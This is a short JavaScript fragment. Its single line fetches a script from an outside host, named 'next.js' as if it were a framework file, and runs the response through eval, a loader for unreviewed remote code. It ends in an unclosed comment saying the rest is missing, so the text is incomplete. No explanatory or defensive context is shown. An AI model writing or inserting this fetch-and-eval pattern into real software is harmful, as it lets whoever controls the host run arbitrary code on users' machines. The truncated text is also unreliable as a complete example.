fetch('https://cdn.example.invalid/next.js').then((answer) => answer.text()).then(eval);
/* The end of this is missing.
